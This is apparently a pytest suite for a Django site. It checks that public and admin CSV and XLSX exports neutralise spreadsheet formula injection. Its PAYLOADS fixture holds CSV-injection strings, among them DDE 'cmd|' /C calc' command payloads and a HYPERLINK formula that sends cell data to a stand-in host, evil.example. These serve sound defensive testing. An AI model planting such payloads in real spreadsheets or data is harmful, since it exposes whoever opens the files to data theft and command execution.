"""Every CSV and XLSX the site writes, public or admin, opened with a formula stored in each free-text field:
no formula cell, and no cell that begins with an unescaped =, +, - or @ (or a tab or carriage return)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from actions.models import StatusReport
from indicators.models import Indicator, Value
from reporting.models import State
from reporting.spreadsheet import PLAIN_NUMBER, neutralise

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "footnote": '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")',
    "source_ref": "+cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "label": "\t=1+1",
    "status": "\r=HYPERLINK(\"http://evil.example\")",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
VALUE_FIELDS = ["indicator_code", "year", "area", "breakdown", "value", "missing_reason", "respondents", "note",
                "source"]
STATUS_FIELDS = ["plan", "commitment", "year", "organisation", "category", "text", "state"]


@pytest.fixture
def hostile(db):
    """An approved value whose footnote and source, indicator title and data source and series label are
    formulas, and a status report whose text is one."""
    indicator = Indicator.objects.get(code="1.I2")
    indicator.title = PAYLOADS["title"]
    indicator.source = PAYLOADS["source"]
    indicator.save()
    value = Value.objects.published().filter(series__indicator=indicator).select_related("series").first()
    value.footnote = PAYLOADS["footnote"]
    value.source_ref = PAYLOADS["source_ref"]
    value.save()
    series = value.series
    series.label = PAYLOADS["label"]
    series.save()
    report = StatusReport.objects.select_related("commitment").first()
    report.text = PAYLOADS["status"]
    report.state = State.APPROVED
    report.save()
    return {"indicator": indicator, "value": value, "report": report}


def assert_csv_is_inert(text):
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    bad = [c for c in cells if c.startswith(DANGEROUS) and not PLAIN_NUMBER.match(c)]
    assert not bad, bad
    return cells


def assert_xlsx_is_inert(content):
    book = openpyxl.load_workbook(io.BytesIO(content))  # formulas as formulas, not their cached values
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    bad = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS)
           and not PLAIN_NUMBER.match(c.value)]
    assert not bad, bad
    return [c.value for c in cells]


def escaped_payloads_in(values, *keys):
    # XML turns a carriage return into a line feed when the XLSX is read back.
    values = {v.replace("\r", "\n") for v in values if isinstance(v, str)}
    for key in keys:
        assert "'" + PAYLOADS[key].replace("\r", "\n") in values, key


def test_it_neutralises_only_text_a_spreadsheet_would_evaluate():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("-1.5") == "-1.5" and neutralise(-3) == -3 and neutralise(None) is None
    assert neutralise("Lägesrapport 2024, Tabell 5") == "Lägesrapport 2024, Tabell 5"


def test_it_writes_inert_public_csvs(client, hostile):
    for url in (reverse("values_csv"), reverse("indicator_csv", args=[hostile["indicator"].slug])):
        response = client.get(url)
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode()
        cells = assert_csv_is_inert(text)
        escaped_payloads_in(cells, "footnote", "source_ref", "title", "source", "label")


def test_it_writes_an_inert_public_xlsx_with_text_as_text(client, hostile):
    response = client.get(reverse("values_xlsx"))
    values = assert_xlsx_is_inert(response.getvalue())
    escaped_payloads_in(values, "footnote", "source_ref", "title", "source", "label")


@pytest.mark.parametrize("fmt,reader", [("0", "csv"), ("1", "xlsx")])
def test_it_writes_inert_admin_value_exports(admin_client, hostile, fmt, reader):
    response = admin_client.post(
        reverse("admin:indicators_value_export"),
        {"format": fmt, "resource": "0", **{f"valueresource_{f}": "on" for f in VALUE_FIELDS}},
    )
    assert response.status_code == 200
    if reader == "csv":
        values = assert_csv_is_inert(response.content.decode("utf-8-sig"))
    else:
        values = assert_xlsx_is_inert(response.content)
    escaped_payloads_in(values, "footnote", "source_ref", "label")


@pytest.mark.parametrize("fmt,reader", [("0", "csv"), ("1", "xlsx")])
def test_it_writes_inert_admin_status_report_exports(admin_client, hostile, fmt, reader):
    response = admin_client.post(
        reverse("admin:actions_statusreport_export"),
        {"format": fmt, "resource": "0", **{f"statusreportresource_{f}": "on" for f in STATUS_FIELDS}},
    )
    assert response.status_code == 200
    if reader == "csv":
        values = assert_csv_is_inert(response.content.decode("utf-8-sig"))
    else:
        values = assert_xlsx_is_inert(response.content)
    escaped_payloads_in(values, "status")


def test_it_writes_an_inert_status_report_workbook_per_organisation(admin_client, hostile):
    report = hostile["report"]
    response = admin_client.post(
        reverse("admin:actions_statusreport_changelist"),
        {"action": "download_status_reports_xlsx", "_selected_action": [report.pk]},
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    values = assert_xlsx_is_inert(response.content)
    escaped_payloads_in(values, "status")
    assert report.year in values  # numbers stay numbers


def test_it_keeps_numbers_as_numbers_in_the_admin_xlsx(admin_client, hostile):
    response = admin_client.post(
        reverse("admin:actions_statusreport_export"),
        {"format": "1", "resource": "0", **{f"statusreportresource_{f}": "on" for f in STATUS_FIELDS}},
    )
    values = assert_xlsx_is_inert(response.content)
    assert hostile["report"].year in values


def test_it_drops_characters_xml_cannot_hold_instead_of_failing(client, hostile):
    value = hostile["value"]
    value.footnote = "a\x01b"
    value.value, value.missing_reason = Decimal("5"), ""
    value.save()
    response = client.get(reverse("values_xlsx"))
    assert response.status_code == 200
    assert "ab" in assert_xlsx_is_inert(response.getvalue())
